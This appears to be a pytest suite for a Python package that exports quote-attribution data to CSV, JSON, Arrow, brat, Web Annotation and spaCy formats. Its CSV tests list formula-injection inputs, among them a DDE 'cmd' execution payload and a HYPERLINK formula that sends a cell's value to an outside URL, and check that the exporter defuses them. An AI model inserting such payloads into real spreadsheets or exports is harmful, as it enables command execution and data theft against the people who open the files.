"""Quotes as rows, frames, Arrow tables, CSV, JSON, Web Annotations, brat files and spaCy spans."""

from __future__ import annotations

import csv
import io
import json
import math
import pickle
import re
import subprocess
import sys
from itertools import pairwise
from pathlib import Path

import pandas
import pyarrow
import pyarrow.parquet
import pytest
import spacy
from attrs import evolve
from helpers import Maker, any_quotes
from hypothesis import HealthCheck, given, settings
from spacy.tokens import Doc, DocBin

from quoteattr import export
from quoteattr.errors import DependencyMissingError, FormatError, OptionError
from quoteattr.example import example_quotes
from quoteattr.export import COLUMNS
from quoteattr.objects import Quotes, Span, walk

ROOT = Path(__file__).resolve().parent.parent
NAMES = [column.name for column in COLUMNS]
BLANK = spacy.blank("en")
ANYTHING = settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])


@pytest.fixture
def quotes() -> Quotes:
    return example_quotes()


def with_text(words: str) -> Quotes:
    """One quote whose words, speaker and cue are ``words``."""
    maker = Maker(f"Ann Fenn said: “{words}”")
    quote = maker.quote(f"“{words}”", by="Ann Fenn", mention="Ann Fenn", cue="said")
    return maker.quotes(evolve(quote, text=words, speaker=evolve(quote.speaker, name=words)))


# The example and the objects


def test_spans_of_the_example_are_true(quotes):
    def check(value):
        if isinstance(value, dict):
            if value.keys() == {"start", "end", "text"}:
                assert quotes.text[value["start"] : value["end"]] == value["text"]
            for each in value.values():
                check(each)
        elif isinstance(value, list):
            for each in value:
                check(each)

    check(quotes.to_dicts())
    assert [quote.id for quote, _ in walk(quotes)] == [0, 1, 2, 3, 4]


def test_methods_are_the_functions(quotes):
    assert quotes.to_rows() == export.rows(quotes)
    assert quotes.to_frame().equals(export.to_frame(quotes))
    assert quotes.to_arrow().equals(export.to_arrow(quotes))
    assert quotes.to_csv() == export.to_csv(quotes)
    assert quotes.to_jsonl() == export.to_jsonl(quotes)
    assert quotes.to_annotations("urn:x") == export.to_annotations(quotes, "urn:x")
    assert quotes.to_brat() == export.to_brat(quotes)
    assert quotes.to_doc_spans(BLANK(quotes.text)).spans["quotes"].attrs is not None


def test_speakers_are_a_sequence(quotes):
    speakers = quotes.speakers
    assert [each.speaker.label for each in speakers] == ["the county", "Ida Holm", "Tomas Reed"]
    assert speakers[1].quotes == 2
    assert list(speakers[1:]) == list(speakers)[1:]
    assert speakers == quotes.speakers
    assert repr(speakers) == "<Speakers: the county, Ida Holm, Tomas Reed>"
    assert [each["quotes"] for each in speakers.to_dicts()] == [1, 2, 1]


def test_export_imports_nothing_heavy():
    code = "import sys, quoteattr.export; print(*sys.modules)"
    loaded = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout
    assert not set(loaded.split()) & {"pandas", "pyarrow", "numpy", "spacy", "jinja2"}


# Rows


def test_documentation_lists_the_columns():
    text = (ROOT / "docs" / "data.md").read_text(encoding="utf-8")
    table = text.partition("<!-- columns -->\n")[2].partition("<!-- end of columns -->")[0]
    documented = [line.strip("| ").split(" | ") for line in table.splitlines()[2:]]
    expected = []
    for column in COLUMNS:
        values = ": " + ", ".join(f"`{value}`" for value in column.values) if column.values else ""
        empty = "may be" if column.nullable else "never"
        expected.append([f"`{column.name}`", column.type, empty, column.meaning + values])
    assert documented == expected


def test_rows_of_the_example(quotes):
    found = export.rows(quotes, "bridge.txt")
    assert [row["doc"] for row in found] == ["bridge.txt"] * 5
    told = found[1]
    assert told["speaker"] == "Ida Holm"
    assert told["mention"] == "Mayor Ida Holm"
    assert told["speaker_description"] == "Mayor"
    assert told["addressee"] == "Kestrel Courier"
    assert told["ranges"] == "86:123 165:186"
    assert (told["start"], told["end"]) == (86, 186)
    assert told["words"] == 11
    assert found[0]["speaker"] is None
    assert found[0]["speaker_label"] == "the county"
    assert found[4]["parent"] == 3
    assert quotes.text[found[4]["cue_start"] : found[4]["cue_end"]] == "say"
    assert found[4]["sentence"] == found[3]["sentence"]


def test_rows_without_speaker_and_cue():
    maker = Maker("“Go!”")
    (row,) = export.rows(maker.quotes(maker.quote("“Go!”")))
    empty = {name for name, value in row.items() if value is None}
    assert empty == {column.name for column in COLUMNS if column.nullable}


def test_rows_of_several_speakers(quotes):
    speaker = quotes[1].speaker
    both = evolve(speaker, name=None, members=(speaker, quotes[3].speaker))
    (row,) = export.rows(evolve(quotes, items=(evolve(quotes[1], speaker=both),)))
    assert row["speaker_members"] == "Ida Holm; Tomas Reed"


@ANYTHING
@given(any_quotes())
def test_rows_have_the_types_of_the_schema(quotes):
    types = {"str": str, "int": int, "float": float, "bool": bool}
    for row in export.rows(quotes, "d"):
        assert list(row) == NAMES
        for column in COLUMNS:
            value = row[column.name]
            if value is None:
                assert column.nullable
            else:
                assert type(value) is types[column.type]
                assert not column.values or value in column.values


# Frames and Arrow


def test_frame_of_the_example(quotes):
    frame = export.to_frame(quotes)
    assert list(frame.columns) == NAMES
    assert frame.loc[frame.parent.isna(), "id"].tolist() == [0, 1, 2, 3]
    assert str(frame.dtypes["kind"]) == "category"
    assert str(frame.dtypes["id"]) == "int64"
    assert str(frame.dtypes["parent"]) == "Int64"
    assert str(frame.dtypes["confidence"]) == "float64"
    assert str(frame.dtypes["cue_negated"]) == "boolean"
    assert frame.dtypes["text"] == pandas.StringDtype("python")


def test_frames_have_the_same_types_whatever_is_in_them(quotes):
    none, some = export.to_frame(Quotes("")), export.to_frame(quotes)
    assert len(none) == 0
    assert none.dtypes.equals(some.dtypes)
    assert pandas.concat([none, some, none]).dtypes.equals(some.dtypes)


@ANYTHING
@given(any_quotes())
def test_frame_holds_every_character(quotes):
    frame = export.to_frame(quotes, "d")
    for row, (_, series) in zip(export.rows(quotes, "d"), frame.iterrows(), strict=True):
        for name, value in row.items():
            assert pandas.isna(series[name]) if value is None else series[name] == value


@ANYTHING
@given(any_quotes())
def test_arrow_holds_every_character_that_it_can(quotes):
    table = export.to_arrow(quotes, "d")
    assert table.schema.names == NAMES
    table.validate(full=True)
    expected = [
        {name: re.sub("[\ud800-\udfff]", "\ufffd", v) if isinstance(v, str) else v for name, v in row.items()}
        for row in export.rows(quotes, "d")
    ]
    assert table.to_pylist() == expected


def test_arrow_schema_and_parquet(quotes):
    table = quotes.to_arrow()
    field = table.schema.field("id")
    assert (field.type, field.nullable) == (pyarrow.int64(), False)
    assert field.metadata[b"meaning"] == b"number of the quote in its document, from 0"
    assert Quotes("").to_arrow().schema.equals(table.schema)
    file = pyarrow.BufferOutputStream()
    pyarrow.parquet.write_table(table, file)
    assert pyarrow.parquet.read_table(pyarrow.BufferReader(file.getvalue())).equals(table)


@pytest.mark.parametrize(("package", "method"), [("pandas", "to_frame"), ("pyarrow", "to_arrow")])
def test_missing_package_is_named_with_the_command(quotes, monkeypatch, package, method):
    monkeypatch.setitem(sys.modules, package, None)
    with pytest.raises(DependencyMissingError, match=r'pip install "quoteattr\[frame\]"') as error:
        getattr(quotes, method)()
    assert package in str(error.value)


# CSV


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def as_text(value: object) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value).lower()
    return str(value)


def test_csv_has_the_rows(quotes):
    header, *lines = read(quotes.to_csv())
    assert header == NAMES
    expected = [[as_text(value) for value in row.values()] for row in export.rows(quotes)]
    assert lines == expected


def test_csv_documents_can_be_put_together(quotes):
    text = export.to_csv(quotes, "a") + export.to_csv(quotes, "b", header=False)
    lines = read(text)
    assert [line[0] for line in lines] == ["doc", *["a"] * 5, *["b"] * 5]


FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1,"click")',
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    '"=1"',
    "＝1",
    "＋1",
    "－1",
    "＠x",
    "-2+3+cmd|' /C calc'!A0",
    "@",
    "=",
]


@pytest.mark.parametrize("words", FORMULAS)
def test_csv_neutralises_formulas(words):
    _, line = read(export.to_csv(with_text(words), doc_id=words))
    for name in ("doc", "speaker", "speaker_label", "text"):
        cell = line[NAMES.index(name)]
        assert cell[0] == "'"
        assert cell.replace("'", "") == words.replace("'", "")
    _, line = read(export.to_csv(with_text(words), safe=False))
    assert line[NAMES.index("text")] == words


@pytest.mark.parametrize("words", ["Fine; =1+1", "Fine;=1+1", "a\n=1", "a\r\n+1", "a\t@x", 'a;"=1"'])
def test_csv_is_safe_where_semicolons_or_tabs_part_the_cells(words):
    text = export.to_csv(with_text(words))
    for cell in re.split(r"[;\t\r\n]", text):
        assert cell.lstrip(' "')[:1] not in ("=", "+", "-", "@")


@pytest.mark.parametrize("words", ["Not a formula = 1", "a-b", "well; then", "5 + 5", "don't", "'=1'"])
def test_csv_leaves_other_words_alone(words):
    _, line = read(export.to_csv(with_text(words)))
    assert line[NAMES.index("text")] == words


@ANYTHING
@given(any_quotes())
def test_csv_of_anything_is_safe_and_complete(quotes):
    expected = [
        [re.sub("[\x00\ud800-\udfff]", "\ufffd", as_text(value)) for value in row.values()]
        for row in export.rows(quotes)
    ]
    assert read(export.to_csv(quotes, safe=False))[1:] == expected
    text = export.to_csv(quotes)
    assert text.encode("utf-8")
    for line in read(text):
        assert not any(re.match(r"[\t\r\n]|\s*[=+\-@＝＋－＠]", cell) for cell in line)
    for cell in re.split(r"[;\t\r\n]", text):
        assert cell.lstrip(' "')[:1] not in ("=", "+", "-", "@")


# JSON and JSON Lines


@ANYTHING
@given(any_quotes())
def test_json_loses_nothing(quotes):
    text = quotes.to_json()
    again = Quotes.from_json(text.encode("utf-8"))
    assert again == quotes
    assert again.to_dict() == quotes.to_dict()
    assert Quotes.from_json(quotes.to_json(indent=2)) == quotes
    assert pickle.loads(pickle.dumps(quotes)).to_dict() == quotes.to_dict()


@ANYTHING
@given(any_quotes())
def test_jsonl_loses_nothing(quotes):
    text = export.to_jsonl(quotes, "d\ud800\u2028")
    lines = text.splitlines()
    assert len(lines) == len(quotes)
    assert all(json.loads(line)["doc"] == "d\ud800\u2028" for line in lines)
    found = export.from_jsonl(text.encode("utf-8"))
    assert [quote.to_dict() for quote in found] == quotes.to_dicts()
    assert export.from_jsonl(line + "\n" for line in lines) == list(quotes)


@pytest.mark.parametrize("line", ["{", "[]", "3", '{"id": 1}', '"text"', "null"])
def test_jsonl_that_is_none_is_told_with_its_line(line):
    with pytest.raises(FormatError, match="Line 2 is not a quote"):
        export.from_jsonl("\n" + line)


# Web Annotations


def check_page(quotes: Quotes, page: dict) -> None:
    """What the Web Annotation Data Model demands, and that every selector finds its words."""
    assert page["@context"] == "http://www.w3.org/ns/anno.jsonld"
    assert page["type"] == "AnnotationPage"
    names = [item["id"] for item in page["items"]]
    assert len(set(names)) == len(names)
    for item in page["items"]:
        assert item["type"] == "Annotation"
        assert item["target"]
        assert all(body["type"] == "TextualBody" and isinstance(body["value"], str) for body in item["body"])
        for target in item["target"]:
            if isinstance(target, str):
                assert item["motivation"] == "linking"
                assert target in names
                continue
            position, words = target["selector"]
            start, end = position["start"], position["end"]
            assert (position["type"], words["type"]) == ("TextPositionSelector", "TextQuoteSelector")
            assert words["exact"] == quotes.text[start:end]
            around = words["prefix"] + words["exact"] + words["suffix"]
            assert quotes.text[max(start - 32, 0) : end + 32] == around


def test_annotations_of_the_example(quotes):
    page = quotes.to_annotations("https://example.org/bridge")
    check_page(quotes, page)
    items = {item["id"].partition("#")[2]: item for item in page["items"]}
    told = items["quote-1"]
    bodies = {body["purpose"]: body["value"] for body in told["body"]}
    assert bodies == {
        "classifying": "direct",
        "identifying": "Ida Holm",
        "describing": "told",
        "assessing": "0.98",
    }
    exact = [target["selector"][1]["exact"] for target in told["target"]]
    assert exact == ["“We have patched it for long enough,”", "“It needs new piers.”"]
    assert items["quote-1-source"]["target"][0]["selector"][1]["exact"] == "Mayor Ida Holm"
    assert items["quote-1-addressee"]["body"][1]["value"] == "Kestrel Courier"
    assert items["quote-4-has-parent"]["target"] == [
        "https://example.org/bridge#quote-4",
        "https://example.org/bridge#quote-3",
    ]


def test_documents_without_an_iri_are_named_by_their_text(quotes):
    name = quotes.to_annotations()["id"]
    assert name.startswith("urn:uuid:")
    assert name == example_quotes().to_annotations()["id"]
    assert name != evolve(quotes, text=quotes.text + "!").to_annotations()["id"]


@ANYTHING
@given(any_quotes())
def test_annotations_of_anything(quotes):
    numbers = {id(quote): number for number, (quote, _) in enumerate(walk(quotes))}

    def renumbered(quote):
        nested = tuple(renumbered(inner) for inner in quote.nested)
        return evolve(quote, id=numbers[id(quote)], nested=nested)

    quotes = evolve(quotes, items=tuple(renumbered(quote) for quote in quotes))
    page = quotes.to_annotations()
    check_page(quotes, page)
    assert json.loads(json.dumps(page)) == page


# brat


def check_brat(text: str, annotations: str) -> dict[str, tuple[str, str]]:
    """The tests that brat makes when it reads the files; the annotations by their ids."""
    found: dict[str, tuple[str, str]] = {}
    for line in annotations.splitlines():
        name, data, *tail = line.split("\t", 2)
        assert name not in found
        found[name] = (data, tail[0] if tail else "")
    for name, (data, tail) in found.items():
        kind, *rest = data.split(" ")
        if name[0] == "T":
            spans = [tuple(map(int, part.split(" "))) for part in data.partition(" ")[2].split(";")]
            assert all(0 <= start < end <= len(text) for start, end in spans)
            assert all(a[1] <= b[0] for a, b in pairwise(spans))
            assert tail == " ".join(text[start:end] for start, end in spans)
        else:
            targets = [part.rpartition(":")[2] for part in rest] if name[0] == "R" else rest[:1]
            assert all(target in found for target in targets)
        assert kind in export.brat_config() or kind == "AnnotatorNotes"
    return found


def test_brat_of_the_example(quotes):
    found = check_brat(quotes.text, quotes.to_brat())
    (told,) = [name for name, (data, _) in found.items() if data == "Quote 86 123;165 186"]
    contents = [data for data, _ in found.values()]
    assert found[told][1] == "“We have patched it for long enough,” “It needs new piers.”"
    assert f"Kind {told} direct" in contents
    (source,) = [name for name, (data, _) in found.items() if data == "Source 124 138"]
    assert f"HasSource Arg1:{told} Arg2:{source}" in contents
    assert sum(data.startswith("Inside ") for data in contents) == 1
    assert sum(data.startswith("HasAddressee ") for data in contents) == 1


def test_brat_annotates_shared_words_once():
    maker = Maker("Ann Fenn said that it rained and that it poured.")
    first = maker.quote("that it rained", by="Ann Fenn", mention="Ann Fenn", cue="said", negated=True)
    second = maker.quote("that it poured", by="Ann Fenn", mention="Ann Fenn", cue="said", negated=True)
    lines = maker.quotes(first, second).to_brat()
    assert lines.count("\tCue ") == lines.count("\tSource ") == lines.count("\tNegated ") == 1
    assert lines.count("\tHasCue ") == lines.count("\tHasSource ") == 2


def test_brat_breaks_annotations_at_line_ends():
    maker = Maker("“One line\r\n  and another,” Ann Fenn said.")
    quotes = maker.quotes(maker.quote("“One line\r\n  and another,”", by="Ann Fenn", mention="Ann Fenn"))
    found = check_brat(maker.text, quotes.to_brat())
    assert found["T1"] == ("Quote 0 9;13 26", "“One line and another,”")


@ANYTHING
@given(any_quotes())
def test_brat_of_anything(quotes):
    text = re.sub("[\ud800-\udfff]", "\ufffd", quotes.text)
    check_brat(text, quotes.to_brat().encode("utf-8").decode("utf-8"))


# spaCy


def test_spans_of_the_example(quotes):
    doc = BLANK(quotes.text)
    assert export.to_doc_spans(quotes, doc) is doc
    pieces = [(span.text, span.label_, span.id_) for span in doc.spans["quotes"]]
    assert pieces[1:3] == [
        ("“We have patched it for long enough,”", "direct", "1"),
        ("“It needs new piers.”", "direct", "1"),
    ]
    assert pieces[-1] == ("‘one more summer,’", "direct", "4")
    sources = [(span.text, span.label_) for span in doc.spans["sources"]]
    assert ("Mayor Ida Holm", "person") in sources


def test_spans_are_widened_to_whole_tokens():
    text = "He said “pre-war” prices."
    maker = Maker(text)
    quote = evolve(maker.quote("“pre-war”", mention="He", cue="said"), spans=(Span.of(text, 10, 13),))
    doc = Doc(BLANK.vocab, words=["He", "said", "“pre-war”", "prices", "."], spaces=[True] * 3 + [False] * 2)
    export.to_doc_spans(maker.quotes(quote), doc)
    assert [span.text for span in doc.spans["quotes"]] == ["“pre-war”"]


def test_doc_of_another_text_is_refused(quotes):
    with pytest.raises(OptionError, match="very text"):
        quotes.to_doc_spans(BLANK("Another text."))


def test_docbin_keeps_the_spans(quotes):
    data = export.to_docbin([quotes, Quotes("Nothing here.")]).to_bytes()
    first, second = DocBin().from_bytes(data).get_docs(BLANK.vocab)
    assert [span.text for span in first.spans["cues"]] == ["said", "told", "added", "said", "say"]
    assert len(second.spans["cues"]) == 0


@settings(ANYTHING, max_examples=30)
@given(any_quotes())
def test_spans_of_anything(quotes):
    doc = export.to_doc(quotes, BLANK)
    pieces = [piece for quote, _ in walk(quotes) for piece in quote.spans if piece.start < piece.end]
    spans = doc.spans["quotes"]
    assert len(spans) == len(pieces)
    for span, piece in zip(spans, pieces, strict=True):
        # A space after a token is no part of it, in spaCy.
        assert not quotes.text[piece.start : span.start_char].strip()
        assert not quotes.text[span.end_char : piece.end].strip()


def test_confidence_is_a_number(quotes):
    assert all(math.isfinite(row["confidence"]) for row in quotes.to_rows())
